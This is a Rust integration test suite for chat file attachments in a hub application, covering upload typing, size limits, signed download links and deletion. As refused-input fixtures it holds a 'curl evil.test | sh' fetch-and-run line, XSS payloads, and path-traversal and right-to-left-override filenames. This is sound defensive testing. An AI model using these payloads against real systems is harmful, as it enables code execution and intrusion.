//! Team chat attachments (issue 16, ADR 25): upload, send with a message, download through
//! signed links; types told from the bytes, sizes capped, names shown inert and never used
//! as paths, links that expire and cannot be forged, files gone with their message.

use std::path::Path;

use reqwest::StatusCode;
use serde_json::{Value, json};
use uuid::Uuid;
use whatpro_hub::{
    chat::attachments::{self, Variant},
    platform::clock,
    simulators::s3::S3Simulator,
};

use crate::{
    chat::{channel, messages_path},
    support::{Caller, Resp, Tenant, TestApp},
};

/// A `w`×`h` PNG with a gradient.
pub(crate) fn png(w: u32, h: u32) -> Vec<u8> {
    let picture = image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x % 256) as u8, (y % 256) as u8, 128])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(picture)
        .write_to(&mut out, image::ImageFormat::Png)
        .unwrap();
    out.into_inner()
}

/// A `w`×`h` JPEG carrying `secret` in a comment segment (as a camera's metadata would).
fn jpeg_with_comment(w: u32, h: u32, secret: &str) -> Vec<u8> {
    let picture = image::load_from_memory(&png(w, h)).unwrap();
    let mut out = std::io::Cursor::new(Vec::new());
    picture
        .write_to(&mut out, image::ImageFormat::Jpeg)
        .unwrap();
    let plain = out.into_inner();
    let mut segment = vec![0xff, 0xfe];
    segment.extend_from_slice(&(secret.len() as u16 + 2).to_be_bytes());
    segment.extend_from_slice(secret.as_bytes());
    // Right after the start-of-image marker.
    [&plain[..2], &segment, &plain[2..]].concat()
}

fn uploads(t: &Tenant, room: Uuid) -> String {
    t.path(&format!("/chat/rooms/{room}/attachments"))
}

async fn upload(
    app: &TestApp,
    t: &Tenant,
    by: &Caller,
    room: Uuid,
    name: &str,
    bytes: &[u8],
) -> Resp {
    app.upload(
        &uploads(t, room),
        &by.token,
        (name, "application/octet-stream"),
        bytes,
    )
    .await
}

async fn uploaded(
    app: &TestApp,
    t: &Tenant,
    by: &Caller,
    room: Uuid,
    name: &str,
    bytes: &[u8],
) -> Value {
    let resp = upload(app, t, by, room, name, bytes).await;
    assert_eq!(resp.status, StatusCode::CREATED, "{name}: {:?}", resp.body);
    resp.body
}

async fn send_files(
    app: &TestApp,
    t: &Tenant,
    by: &Caller,
    room: Uuid,
    body: &str,
    ids: &[&Value],
) -> Resp {
    let ids: Vec<&Value> = ids.iter().map(|a| &a["id"]).collect();
    let body =
        json!({ "body": body, "client_id": Uuid::new_v4().to_string(), "attachment_ids": ids });
    app.post(&messages_path(t, room), &by.token, body).await
}

/// A GET of a link with no credential, as a browser's `<img src>` makes it.
async fn fetch(app: &TestApp, url: &str) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let resp = app.client.get(url).send().await.unwrap();
    let (status, headers) = (resp.status(), resp.headers().clone());
    (status, headers, resp.bytes().await.unwrap().to_vec())
}

fn header<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
}

/// Every file under `dir`.
fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out
}

struct Setup {
    app: TestApp,
    t: Tenant,
    room: Uuid,
    dir: tempfile::TempDir,
}

async fn setup(vars: &[(&str, &str)]) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let files_dir = dir.path().display().to_string();
    let mut all = vec![("CHAT_FILES_DIR", files_dir.as_str())];
    all.extend_from_slice(vars);
    let app = TestApp::spawn_with(&all).await;
    let root = app.user("root@hub.test", true).await;
    let t = app.tenant(&root, "Files Corp").await;
    let room = channel(&app, &t, &t.admin, true, &[t.agent.id]).await;
    Setup { app, t, room, dir }
}

#[tokio::test]
async fn chat_attachments_round_trip_upload_send_and_download() {
    let Setup { app, t, room, dir } = setup(&[]).await;
    let original = jpeg_with_comment(640, 480, "gps-47.6062N-secret");
    let image = uploaded(&app, &t, &t.agent, room, "holiday.jpg", &original).await;
    assert_eq!(image["kind"], "image");
    assert_eq!(image["content_type"], "image/jpeg");
    assert_eq!(image["filename"], "holiday.jpg");
    assert_eq!(image["size"], original.len());
    assert_eq!(
        (image["width"].as_i64(), image["height"].as_i64()),
        (Some(640), Some(480))
    );
    let pdf = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n";
    let doc = uploaded(&app, &t, &t.agent, room, "contrato.pdf", pdf).await;
    assert_eq!(doc["kind"], "file");
    assert_eq!(doc["thumbnail_url"], Value::Null);

    // Sent with an empty body; the room's people see the files in the message.
    let sent = send_files(&app, &t, &t.agent, room, "", &[&image, &doc]).await;
    assert_eq!(sent.status, StatusCode::CREATED, "{:?}", sent.body);
    let files = sent.body["attachments"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(files[0]["id"], image["id"]);
    assert_eq!(files[1]["id"], doc["id"]);
    let page = app.get(&messages_path(&t, room), &t.admin.token).await;
    let listed = &page.body["items"][0]["attachments"];
    assert_eq!(listed.as_array().unwrap().len(), 2, "{:?}", page.body);
    let url = listed[0]["url"].as_str().unwrap();
    assert!(url.starts_with(&app.base), "{url}");

    // The original, without a credential, as a download that nothing can run.
    let (status, headers, bytes) = fetch(&app, url).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bytes, original);
    assert_eq!(header(&headers, "content-type"), "image/jpeg");
    assert_eq!(
        header(&headers, "content-disposition"),
        "attachment; filename=\"holiday.jpg\"; filename*=UTF-8''holiday.jpg"
    );
    assert_eq!(header(&headers, "x-content-type-options"), "nosniff");
    assert_eq!(
        header(&headers, "content-security-policy"),
        "default-src 'none'; sandbox"
    );
    assert!(header(&headers, "cache-control").starts_with("private, max-age="));

    // The thumbnail: re-encoded, at most 320 px, without the original's metadata.
    let thumb_url = listed[0]["thumbnail_url"].as_str().unwrap();
    let (status, headers, thumb) = fetch(&app, thumb_url).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(header(&headers, "content-disposition"), "inline");
    assert!(
        ["image/jpeg", "image/png"].contains(&header(&headers, "content-type")),
        "{headers:?}"
    );
    let decoded = image::load_from_memory(&thumb).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (320, 240));
    assert!(
        !thumb.windows(6).any(|w| w == b"gps-47"),
        "the thumbnail carries the original's metadata"
    );

    // The PDF downloads as itself.
    let (status, headers, bytes) = fetch(&app, listed[1]["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bytes, pdf);
    assert_eq!(header(&headers, "content-type"), "application/pdf");

    // Stored under random names in the files directory, never the client's.
    let stored = files_under(dir.path());
    assert_eq!(stored.len(), 3, "{stored:?}");
    for path in &stored {
        let name = path.file_name().unwrap().to_str().unwrap();
        assert!(
            name.len() == 32 && name.chars().all(|c| c.is_ascii_hexdigit()),
            "{path:?}"
        );
    }
}

#[tokio::test]
async fn chat_attachments_are_typed_by_their_bytes_and_refused_outside_the_list() {
    let Setup { app, t, room, dir } = setup(&[]).await;
    // A PNG named .pdf is an image (named so it opens as one).
    let png_as_pdf = app
        .upload(
            &uploads(&t, room),
            &t.agent.token,
            ("report.pdf", "application/pdf"),
            &png(40, 30),
        )
        .await;
    assert_eq!(
        png_as_pdf.status,
        StatusCode::CREATED,
        "{:?}",
        png_as_pdf.body
    );
    assert_eq!(png_as_pdf.body["content_type"], "image/png");
    assert_eq!(png_as_pdf.body["kind"], "image");
    assert_eq!(png_as_pdf.body["filename"], "report.pdf.png");

    let refused: [(&str, &str, &[u8]); 7] = [
        (
            "photo.png",
            "image/png",
            b"<!DOCTYPE html><script>alert(document.cookie)</script>",
        ),
        (
            "logo.svg",
            "image/svg+xml",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        (
            "logo.png",
            "image/png",
            b"\n <?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>",
        ),
        (
            "setup.pdf",
            "application/pdf",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
        ),
        (
            "tool",
            "application/octet-stream",
            b"\x7fELF\x02\x01\x01\x00",
        ),
        ("run.txt", "text/plain", b"#!/bin/sh\ncurl evil.test | sh\n"),
        (
            "archive.zip",
            "application/zip",
            b"PK\x03\x04\x14\x00\x00\x00\x00\x00",
        ),
    ];
    for (name, claimed, bytes) in refused {
        let resp = app
            .upload(&uploads(&t, room), &t.agent.token, (name, claimed), bytes)
            .await;
        resp.assert_problem(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported_media_type");
    }
    // Plain text and CSV are told apart by name only (both are text).
    let csv = uploaded(
        &app,
        &t,
        &t.agent,
        room,
        "leads.csv",
        b"name,phone\nAna,55\n",
    )
    .await;
    assert_eq!(csv["content_type"], "text/csv");
    // A damaged image is refused, not stored.
    let broken = [&png(10, 10)[..20], &[0u8; 40]].concat();
    let resp = upload(&app, &t, &t.agent, room, "broken.png", &broken).await;
    resp.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "image_unreadable");
    // Refused files leave nothing behind, staged or stored: the PNG and the CSV only.
    assert_eq!(
        files_under(dir.path()).len(),
        3,
        "{:?}",
        files_under(dir.path())
    );
}

#[tokio::test]
async fn chat_attachments_past_the_size_limit_are_refused() {
    let Setup { app, t, room, dir } = setup(&[("CHAT_ATTACHMENT_MAX_MB", "1")]).await;
    let limit = 1024 * 1024;
    let fits = vec![b'a'; limit];
    let resp = upload(&app, &t, &t.agent, room, "big.txt", &fits).await;
    assert_eq!(resp.status, StatusCode::CREATED, "{:?}", resp.body);
    assert_eq!(resp.body["size"], limit);
    // One byte more is refused while it streams (the declared length allows the framing).
    let over = vec![b'a'; limit + 1];
    let resp = upload(&app, &t, &t.agent, room, "big.txt", &over).await;
    resp.assert_problem(StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large");
    // Far past it, the declared length is refused before the body is read.
    let far = vec![b'a'; 3 * limit];
    let resp = upload(&app, &t, &t.agent, room, "huge.txt", &far).await;
    resp.assert_problem(StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large");
    let empty = upload(&app, &t, &t.agent, room, "empty.txt", b"").await;
    empty.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
    assert_eq!(
        files_under(dir.path()).len(),
        1,
        "nothing of the refused ones stays"
    );
}

#[tokio::test]
async fn chat_attachment_names_and_bodies_are_inert_and_never_paths() {
    let Setup { app, t, room, dir } = setup(&[]).await;
    let cases = [
        (
            "<img src=x onerror=alert(1)>.png",
            "<img src=x onerror=alert(1)>.png",
        ),
        ("../../etc/passwd", "passwd.txt"),
        ("..\\..\\windows\\win.ini", "win.ini.txt"),
        ("invoice\u{202e}fdp.exe", "invoicefdp.exe.txt"),
    ];
    let mut sent = Vec::new();
    for (name, shown) in cases {
        let bytes: Vec<u8> = if name.ends_with(".png") {
            png(8, 8)
        } else {
            b"hello\n".to_vec()
        };
        let resp = upload(&app, &t, &t.agent, room, name, &bytes).await;
        assert_eq!(
            resp.status,
            StatusCode::CREATED,
            "{name:?}: {:?}",
            resp.body
        );
        assert_eq!(resp.body["filename"], shown, "{name:?}");
        sent.push(resp.body);
    }
    let refs: Vec<&Value> = sent.iter().collect();
    let body = "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>";
    let message = send_files(&app, &t, &t.agent, room, body, &refs).await;
    assert_eq!(message.status, StatusCode::CREATED, "{:?}", message.body);
    let html = message.body["html"].as_str().unwrap();
    assert!(
        !html.contains("<script") && !html.contains("<img") && !html.contains("href=\"javascript"),
        "{html}"
    );
    for file in message.body["attachments"].as_array().unwrap() {
        let (status, headers, _) = fetch(&app, file["url"].as_str().unwrap()).await;
        assert_eq!(status, StatusCode::OK);
        let disposition = header(&headers, "content-disposition");
        let quoted = disposition.split('"').nth(1).unwrap();
        assert!(
            !quoted.contains(['<', '>', '/', '\\', '\r', '\n']),
            "{disposition}"
        );
        assert!(disposition.starts_with("attachment; "), "{disposition}");
    }
    // No name of the client's reached the disk, and nothing was written outside the dir.
    for path in files_under(dir.path()) {
        let name = path.file_name().unwrap().to_str().unwrap();
        assert!(name.chars().all(|c| c.is_ascii_hexdigit()), "{path:?}");
    }
    assert!(!dir.path().join("passwd").exists());
}

#[tokio::test]
async fn chat_attachment_links_expire_and_cannot_be_forged() {
    let Setup { app, t, room, .. } = setup(&[]).await;
    let first = uploaded(&app, &t, &t.agent, room, "a.png", &png(400, 100)).await;
    let second = uploaded(&app, &t, &t.agent, room, "b.txt", b"second\n").await;
    let url = first["url"].as_str().unwrap();
    let (status, ..) = fetch(&app, url).await;
    assert_eq!(status, StatusCode::OK);

    let id: Uuid = first["id"].as_str().unwrap().parse().unwrap();
    let other: Uuid = second["id"].as_str().unwrap().parse().unwrap();
    let files = &app.state.chat_files;
    let base = format!("{}/api/v1/chat/files", app.base);
    let link = |id: Uuid, tail: &str, expires: i64, signature: &str| {
        format!("{base}/{id}{tail}?expires={expires}&signature={signature}")
    };
    let now = clock::now().unix_timestamp(); // wall-clock: links expire by the hub's clock
    let valid = files.signature(id, Variant::Original, now + 600);
    let (status, ..) = fetch(&app, &link(id, "", now + 600, &valid)).await;
    assert_eq!(status, StatusCode::OK);

    // Expired: a signature the hub made, for a moment already past.
    let past = files.signature(id, Variant::Original, now - 1);
    let resp = Resp::read(
        app.client
            .get(link(id, "", now - 1, &past))
            .send()
            .await
            .unwrap(),
    )
    .await;
    resp.assert_problem(StatusCode::FORBIDDEN, "link_expired");

    let mut flipped = valid.clone().into_bytes();
    flipped[0] = if flipped[0] == b'A' { b'B' } else { b'A' };
    let flipped = String::from_utf8(flipped).unwrap();
    let thumb_sig = files.signature(id, Variant::Thumbnail, now + 600);
    let forgeries = [
        link(id, "", now + 600, &flipped),
        link(id, "", now + 6000, &valid),
        link(other, "", now + 600, &valid),
        link(id, "", now + 600, ""),
        link(id, "", now + 600, "not base64 at all!"),
        link(id, "", now + 600, &thumb_sig),
        link(id, "/thumbnail", now + 600, &valid),
    ];
    for forged in forgeries {
        let resp = Resp::read(app.client.get(&forged).send().await.unwrap()).await;
        resp.assert_problem(StatusCode::FORBIDDEN, "invalid_signature");
    }
    let (status, ..) = fetch(&app, &link(id, "/thumbnail", now + 600, &thumb_sig)).await;
    assert_eq!(status, StatusCode::OK);
    // A link without its parameters is refused as invalid input.
    let (status, ..) = fetch(&app, &format!("{base}/{id}")).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
}

#[tokio::test]
async fn chat_attachment_ids_of_others_are_refused_without_telling_them_apart() {
    let Setup { app, t, room, .. } = setup(&[]).await;
    let root = app.user("root2@hub.test", true).await;
    let other_tenant = app.tenant(&root, "Other Corp").await;
    let their_room = channel(&app, &other_tenant, &other_tenant.admin, false, &[]).await;
    let theirs = uploaded(
        &app,
        &other_tenant,
        &other_tenant.admin,
        their_room,
        "x.txt",
        b"x\n",
    )
    .await;
    let second_room = channel(&app, &t, &t.agent, false, &[]).await;
    let elsewhere = uploaded(&app, &t, &t.agent, second_room, "y.txt", b"y\n").await;
    let admins = uploaded(&app, &t, &t.admin, room, "z.txt", b"z\n").await;
    let mine = uploaded(&app, &t, &t.agent, room, "w.txt", b"w\n").await;
    let sent = send_files(&app, &t, &t.agent, room, "first", &[&mine]).await;
    assert_eq!(sent.status, StatusCode::CREATED, "{:?}", sent.body);
    let missing = json!({ "id": Uuid::now_v7() });

    let mut answers = Vec::new();
    for (what, file) in [
        ("another account's", &theirs),
        ("another room's", &elsewhere),
        ("someone else's", &admins),
        ("already sent", &mine),
        ("nonexistent", &missing),
    ] {
        let resp = send_files(&app, &t, &t.agent, room, "again", &[file]).await;
        resp.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
        assert_eq!(resp.error_fields(), ["attachment_ids"], "{what}");
        let mut body = resp.body.clone();
        body.as_object_mut().unwrap().remove("request_id");
        body.as_object_mut().unwrap().remove("instance");
        answers.push(body);
    }
    assert!(answers.windows(2).all(|w| w[0] == w[1]), "{answers:?}");
    // Nothing was sent by the refusals, and the other account's file is still unsent.
    let page = app.get(&messages_path(&t, room), &t.agent.token).await;
    assert_eq!(page.body["items"].as_array().unwrap().len(), 1);
    let mine_too = uploaded(
        &app,
        &other_tenant,
        &other_tenant.admin,
        their_room,
        "v.txt",
        b"v\n",
    )
    .await;
    let ok = send_files(
        &app,
        &other_tenant,
        &other_tenant.admin,
        their_room,
        "",
        &[&theirs, &mine_too],
    )
    .await;
    assert_eq!(ok.status, StatusCode::CREATED, "{:?}", ok.body);

    // At most ten, each once.
    let dup = send_files(&app, &t, &t.agent, room, "dup", &[&admins, &admins]).await;
    dup.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
    let many: Vec<Value> = (0..11).map(|_| json!({ "id": Uuid::now_v7() })).collect();
    let refs: Vec<&Value> = many.iter().collect();
    let over = send_files(&app, &t, &t.agent, room, "many", &refs).await;
    over.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
    // Without files the body is still required.
    let empty = send_files(&app, &t, &t.agent, room, " ", &[]).await;
    empty.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
}

#[tokio::test]
async fn chat_attachments_need_someone_who_may_post_in_the_room() {
    let Setup { app, t, room, .. } = setup(&[]).await;
    // The supervisor is not in the private channel: it does not exist for them.
    let resp = upload(&app, &t, &t.supervisor, room, "a.txt", b"a\n").await;
    resp.assert_problem(StatusCode::NOT_FOUND, "not_found");
    let page = app.get(&messages_path(&t, room), &t.supervisor.token).await;
    page.assert_problem(StatusCode::NOT_FOUND, "not_found");
    // Another account's admin neither.
    let root = app.user("root2@hub.test", true).await;
    let other = app.tenant(&root, "Other Corp").await;
    let resp = upload(&app, &t, &other.admin, room, "a.txt", b"a\n").await;
    resp.assert_problem(StatusCode::NOT_FOUND, "not_found");
    // A key acts for nobody.
    let key = app
        .post(
            &t.path("/api-keys"),
            &t.admin.token,
            json!({ "name": "bot", "scopes": ["chat:read", "chat:write"] }),
        )
        .await;
    let key = key.body["key"].as_str().unwrap().to_string();
    let resp = app
        .upload(&uploads(&t, room), &key, ("a.txt", "text/plain"), b"a\n")
        .await;
    resp.assert_problem(StatusCode::FORBIDDEN, "user_token_required");
    // Not multipart: refused as such.
    let resp = app
        .post(&uploads(&t, room), &t.agent.token, json!({ "file": "x" }))
        .await;
    resp.assert_problem(StatusCode::BAD_REQUEST, "invalid_multipart");
    // An archived room takes no files.
    let archive = t.path(&format!("/chat/rooms/{room}/archive"));
    let archived = app.post(&archive, &t.admin.token, json!({})).await;
    assert_eq!(archived.status, StatusCode::OK, "{:?}", archived.body);
    let resp = upload(&app, &t, &t.agent, room, "a.txt", b"a\n").await;
    resp.assert_problem(StatusCode::CONFLICT, "room_archived");
}

#[tokio::test]
async fn chat_attachments_go_with_their_deleted_message() {
    let Setup { app, t, room, dir } = setup(&[]).await;
    let image = uploaded(&app, &t, &t.agent, room, "a.png", &png(500, 500)).await;
    let doc = uploaded(&app, &t, &t.agent, room, "b.txt", b"b\n").await;
    let sent = send_files(&app, &t, &t.agent, room, "files", &[&image, &doc]).await;
    assert_eq!(sent.status, StatusCode::CREATED, "{:?}", sent.body);
    let links: Vec<String> = sent.body["attachments"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|a| [a["url"].as_str(), a["thumbnail_url"].as_str()])
        .flatten()
        .map(String::from)
        .collect();
    assert_eq!(links.len(), 3);
    assert_eq!(files_under(&dir.path().join("objects")).len(), 3);

    // A moderator deletes it: the tombstone has no files, the links find nothing.
    let path = format!("{}/{}", messages_path(&t, room), sent.id());
    let deleted = app.delete(&path, &t.admin.token).await;
    assert_eq!(deleted.status, StatusCode::OK, "{:?}", deleted.body);
    assert_eq!(deleted.body["attachments"], json!([]));
    for link in &links {
        let resp = Resp::read(app.client.get(link).send().await.unwrap()).await;
        resp.assert_problem(StatusCode::NOT_FOUND, "not_found");
    }
    assert_eq!(
        files_under(&dir.path().join("objects")),
        Vec::<std::path::PathBuf>::new()
    );
    // Its ids cannot be sent again either.
    let again = send_files(&app, &t, &t.agent, room, "again", &[&image]).await;
    again.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
}

#[tokio::test]
async fn chat_uploads_never_sent_are_purged_after_a_day() {
    let Setup { app, t, room, dir } = setup(&[]).await;
    let sent = uploaded(&app, &t, &t.agent, room, "sent.png", &png(400, 400)).await;
    let message = send_files(&app, &t, &t.agent, room, "", &[&sent]).await;
    assert_eq!(message.status, StatusCode::CREATED, "{:?}", message.body);
    let unsent = uploaded(&app, &t, &t.agent, room, "unsent.png", &png(400, 400)).await;
    assert_eq!(files_under(&dir.path().join("objects")).len(), 4);

    let state = &app.state;
    let now = clock::now(); // wall-clock: uploads are dated by the hub's clock
    let purge = |before| attachments::purge_unsent(&state.db, &state.chat_files, before);
    assert_eq!(
        purge(now - attachments::UNSENT_KEPT).await.unwrap(),
        0,
        "a fresh upload stays"
    );
    assert_eq!(purge(now + time::Duration::minutes(1)).await.unwrap(), 1);
    assert_eq!(
        files_under(&dir.path().join("objects")).len(),
        2,
        "the sent one's stay"
    );
    let (status, ..) = fetch(&app, unsent["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, ..) = fetch(
        &app,
        message.body["attachments"][0]["url"].as_str().unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let late = send_files(&app, &t, &t.agent, room, "late", &[&unsent]).await;
    late.assert_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
}

#[tokio::test]
async fn chat_attachments_resent_with_the_same_client_id_answer_the_message() {
    let Setup { app, t, room, .. } = setup(&[]).await;
    let file = uploaded(&app, &t, &t.agent, room, "a.txt", b"a\n").await;
    let body = json!({ "body": "", "client_id": "c-1", "attachment_ids": [file["id"]] });
    let first = app
        .post(&messages_path(&t, room), &t.agent.token, body.clone())
        .await;
    assert_eq!(first.status, StatusCode::CREATED, "{:?}", first.body);
    let again = app
        .post(&messages_path(&t, room), &t.agent.token, body)
        .await;
    assert_eq!(again.status, StatusCode::OK, "{:?}", again.body);
    assert_eq!(again.body["id"], first.body["id"]);
    assert_eq!(again.body["attachments"][0]["id"], file["id"]);
}

const S3_KEY_ID: &str = "AKIDCHATFILES";
const S3_SECRET: &str = "s3-secret-for-the-chat-files-simulator";

async fn with_bucket(s3: &S3Simulator, secret: &str) -> Setup {
    let endpoint = s3.endpoint();
    setup(&[
        ("CHAT_S3_ENDPOINT", &endpoint),
        ("CHAT_S3_BUCKET", "chat-files"),
        ("CHAT_S3_REGION", "sa-east-1"),
        ("CHAT_S3_ACCESS_KEY_ID", S3_KEY_ID),
        ("CHAT_S3_SECRET_ACCESS_KEY", secret),
    ])
    .await
}

#[tokio::test]
async fn chat_attachments_round_trip_through_an_s3_bucket() {
    let s3 = S3Simulator::start(S3_KEY_ID, S3_SECRET, "sa-east-1", "chat-files").await;
    let Setup { app, t, room, dir } = with_bucket(&s3, S3_SECRET).await;
    let original = png(700, 350);
    let image = uploaded(&app, &t, &t.agent, room, "chart.png", &original).await;
    let text = uploaded(&app, &t, &t.agent, room, "notes.txt", b"remember\n").await;
    // Both files and the thumbnail are in the bucket, under random keys; nothing on disk.
    let keys = s3.keys();
    assert_eq!(keys.len(), 3, "{keys:?}");
    assert!(keys.iter().all(|k| k.len() == 32), "{keys:?}");
    assert!(
        keys.iter()
            .any(|k| s3.object(k).as_deref() == Some(&original[..]))
    );
    assert_eq!(files_under(dir.path()), Vec::<std::path::PathBuf>::new());
    assert_eq!(
        s3.refused(),
        Vec::<&str>::new(),
        "every signature was right"
    );

    let sent = send_files(&app, &t, &t.agent, room, "", &[&image, &text]).await;
    assert_eq!(sent.status, StatusCode::CREATED, "{:?}", sent.body);
    let files = &sent.body["attachments"];
    let (status, headers, bytes) = fetch(&app, files[0]["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bytes, original);
    assert_eq!(
        header(&headers, "content-length"),
        original.len().to_string()
    );
    let (status, _, thumb) = fetch(&app, files[0]["thumbnail_url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    let decoded = image::load_from_memory(&thumb).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (320, 160));
    let (_, _, bytes) = fetch(&app, files[1]["url"].as_str().unwrap()).await;
    assert_eq!(bytes, b"remember\n");

    // Deleting the message deletes the objects.
    let path = format!("{}/{}", messages_path(&t, room), sent.id());
    let deleted = app.delete(&path, &t.agent.token).await;
    assert_eq!(deleted.status, StatusCode::OK, "{:?}", deleted.body);
    assert_eq!(s3.keys(), Vec::<String>::new());
}

#[tokio::test]
async fn chat_attachments_refused_by_the_bucket_are_not_kept() {
    // The hub holds the wrong secret: the bucket refuses every signature.
    let s3 = S3Simulator::start(S3_KEY_ID, S3_SECRET, "sa-east-1", "chat-files").await;
    let Setup { app, t, room, dir } = with_bucket(&s3, "a-secret-the-bucket-does-not-know").await;
    let resp = upload(&app, &t, &t.agent, room, "a.txt", b"a\n").await;
    resp.assert_problem(StatusCode::SERVICE_UNAVAILABLE, "file_store_unavailable");
    assert_eq!(s3.refused(), ["SignatureDoesNotMatch"]);
    assert_eq!(s3.keys(), Vec::<String>::new());
    assert_eq!(
        files_under(dir.path()),
        Vec::<std::path::PathBuf>::new(),
        "nothing staged stays"
    );
    let page = app.get(&messages_path(&t, room), &t.agent.token).await;
    assert_eq!(page.body["items"], json!([]));
}

#[tokio::test]
async fn chat_attachment_links_stop_with_the_plans_chat() {
    let Setup { app, t, room, .. } = setup(&[]).await;
    let image = uploaded(&app, &t, &t.agent, room, "a.png", &png(40, 40)).await;
    let sent = send_files(&app, &t, &t.agent, room, "files", &[&image]).await;
    assert_eq!(sent.status, StatusCode::CREATED, "{:?}", sent.body);
    let file = &sent.body["attachments"][0];
    let links = [
        file["url"].as_str().unwrap(),
        file["thumbnail_url"].as_str().unwrap(),
    ];
    for link in links {
        assert_eq!(fetch(&app, link).await.0, StatusCode::OK);
    }

    let root = app.user("root@hub.test", true).await;
    let off = json!({ "features": { "internal_chat_enabled": false } });
    let set = app.put(&t.path("/entitlements"), &root.token, off).await;
    assert_eq!(set.status, StatusCode::OK, "{:?}", set.body);
    // The links were handed out before, and have not expired: they stop all the same.
    for link in links {
        let resp = Resp::read(app.client.get(link).send().await.unwrap()).await;
        resp.assert_problem(StatusCode::FORBIDDEN, "feature_disabled");
    }
}
